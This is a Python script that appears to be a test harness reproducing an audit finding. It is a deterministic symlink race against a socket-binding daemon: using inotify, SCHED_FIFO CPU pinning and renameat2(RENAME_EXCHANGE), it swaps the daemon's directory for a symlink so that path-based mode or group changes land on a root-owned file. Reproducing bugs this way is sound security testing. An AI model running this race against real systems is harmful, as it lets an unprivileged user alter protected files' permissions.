"""The symlink race against ``memsched pressure serve``, as a hostile user with write access to the socket's
directory would run it (the audit's reproduction, made deterministic).

Run as ``python symlink_race.py BASE VICTIM_DIR CPU``: the racer pins itself to ``CPU`` and becomes
SCHED_FIFO, watches ``BASE`` with inotify, and

1. when a directory appears in ``BASE`` (the daemon's private directory), watches it too;
2. when a file appears in that directory (the socket ``bind()`` just created), creates ``VICTIM_DIR/<name>``
   (a root-owned 0600 file standing for any file on the system) and swaps the private directory with a
   symlink to ``VICTIM_DIR`` with ``renameat2(RENAME_EXCHANGE)``; then it prints ``exchanged <name>`` and
   exits.

Because the racer is a realtime task on the daemon's CPU, each inotify wake-up preempts the daemon before its
system call returns: the swap always lands between the ``bind()`` and whatever the daemon does next. A daemon
that then changes the socket's mode or group *by path* changes the victim's instead. It prints ``ready``
once it watches ``BASE`` and gives up after 30 s.
"""

from __future__ import annotations

import ctypes
import os
import signal
import struct
import sys
from pathlib import Path

IN_CREATE = 0x00000100
IN_ISDIR = 0x40000000
IN_CLOEXEC = 0o2000000
RENAME_EXCHANGE = 1 << 1
AT_FDCWD = -100
_EVENT = struct.Struct("iIII")  # struct inotify_event: wd, mask, cookie, len (then the name)

_libc = ctypes.CDLL(None, use_errno=True)


def _check(rv: int, what: str) -> int:
    if rv < 0:
        err = ctypes.get_errno()
        raise OSError(err, f"{what}: {os.strerror(err)}")
    return rv


def renameat2_exchange(a: Path, b: Path) -> None:
    """Swap the names ``a`` and ``b`` atomically (``renameat2(..., RENAME_EXCHANGE)``, 3.15+)."""
    _check(
        _libc.renameat2(AT_FDCWD, os.fsencode(a), AT_FDCWD, os.fsencode(b), ctypes.c_uint(RENAME_EXCHANGE)),
        "renameat2",
    )


def main(base: Path, victim_dir: Path, cpu: int) -> int:
    signal.alarm(30)
    os.sched_setaffinity(0, {cpu})
    os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(10))
    link = base / ".racer-link"
    os.symlink(victim_dir, link)
    fd = _check(_libc.inotify_init1(IN_CLOEXEC), "inotify_init1")
    base_wd = _check(_libc.inotify_add_watch(fd, os.fsencode(base), IN_CREATE), "inotify_add_watch")
    print("ready", flush=True)
    dirs: dict[int, str] = {}
    while True:
        buf = os.read(fd, 65536)
        off = 0
        while off < len(buf):
            wd, mask, _cookie, length = _EVENT.unpack_from(buf, off)
            name = buf[off + _EVENT.size : off + _EVENT.size + length].rstrip(b"\0").decode()
            off += _EVENT.size + length
            if wd == base_wd and mask & IN_ISDIR and not name.startswith(".racer"):
                wd2 = _check(_libc.inotify_add_watch(fd, os.fsencode(base / name), IN_CREATE), "add_watch")
                dirs[wd2] = name
            elif wd in dirs:
                victim = victim_dir / name
                victim.write_text("a root-owned file that must keep its mode and group\n")
                victim.chmod(0o600)
                os.link(victim, victim_dir / f".keep-{name}")  # to find it wherever the daemon moves it
                renameat2_exchange(base / dirs[wd], link)
                print(f"exchanged {name}", flush=True)
                return 0


if __name__ == "__main__":
    sys.exit(main(Path(sys.argv[1]), Path(sys.argv[2]), int(sys.argv[3])))
